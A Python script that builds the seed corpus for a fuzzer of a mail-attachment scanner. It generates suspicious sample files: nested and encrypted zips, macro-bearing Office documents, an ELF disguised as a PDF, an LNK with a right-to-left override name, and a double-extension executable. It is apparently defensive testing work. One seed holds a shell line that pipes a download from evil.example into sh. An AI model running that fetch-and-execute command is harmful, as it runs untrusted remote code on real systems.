"""Writes the seed corpus of fuzz_mail_attach from tests/e2e/mailgen.py's
file builders (run from the repository root):

    /usr/bin/python3 fuzz/seeds/mail_attach.py

Each seed is one byte choosing the declared type and name (the table in
fuzz/fuzz_mail_attach.c), then the file.
"""
import gzip
import pathlib
import sys

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "e2e"))
import mailgen as g  # noqa: E402

ZIP, EXE, TGZ, DOCM, DOC, PDF, RLO, SEVENZ, RAR, UNNAMED = range(10)
inner = g.zip_bytes([("payload.exe", g.pe_bytes(b"inner"))])
deep = g.zip_bytes([("level4.exe", g.pe_bytes(b"deep"))])
for lvl in (3, 2, 1):
    deep = g.zip_bytes([(f"level{lvl}.zip", deep)])
seeds = {
    "zip": (ZIP, g.zip_bytes([("readme.txt", b"hello\n"), ("dir/tool.exe", g.pe_bytes(b"tool"))])),
    "zip_in_zip": (ZIP, g.zip_bytes([("inner.zip", inner)])),
    "zip_deep": (ZIP, deep),
    "zip_encrypted": (ZIP, g.zip_bytes([("secret.exe", g.pe_bytes(b"secret"))], encrypt=True)),
    "tgz": (TGZ, g.tgz_bytes([("a/run.sh", b"#!/bin/sh\necho hi\n"), ("a/b.exe", g.pe_bytes(b"t"))])),
    "gzip_plain": (TGZ, gzip.compress(b"plain text in gzip\n", mtime=0)),
    "docm": (DOCM, g.docm_bytes()),
    "ole_vba": (DOC, g.ole_bytes(with_vba=True)),
    "ole_plain": (DOC, g.ole_bytes(with_vba=False)),
    "pe_double_ext": (EXE, g.pe_bytes()),
    "elf_as_pdf": (PDF, g.elf_bytes()),
    "lnk_rlo": (RLO, g.lnk_bytes()),
    "pdf": (PDF, b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"),
    "script": (UNNAMED, b"#!/bin/sh\ncurl http://evil.example/x | sh\n"),
}
out = ROOT / "fuzz" / "corpus" / "mail_attach"
out.mkdir(parents=True, exist_ok=True)
for name, (kind, body) in seeds.items():
    (out / name).write_bytes(bytes([kind]) + body)
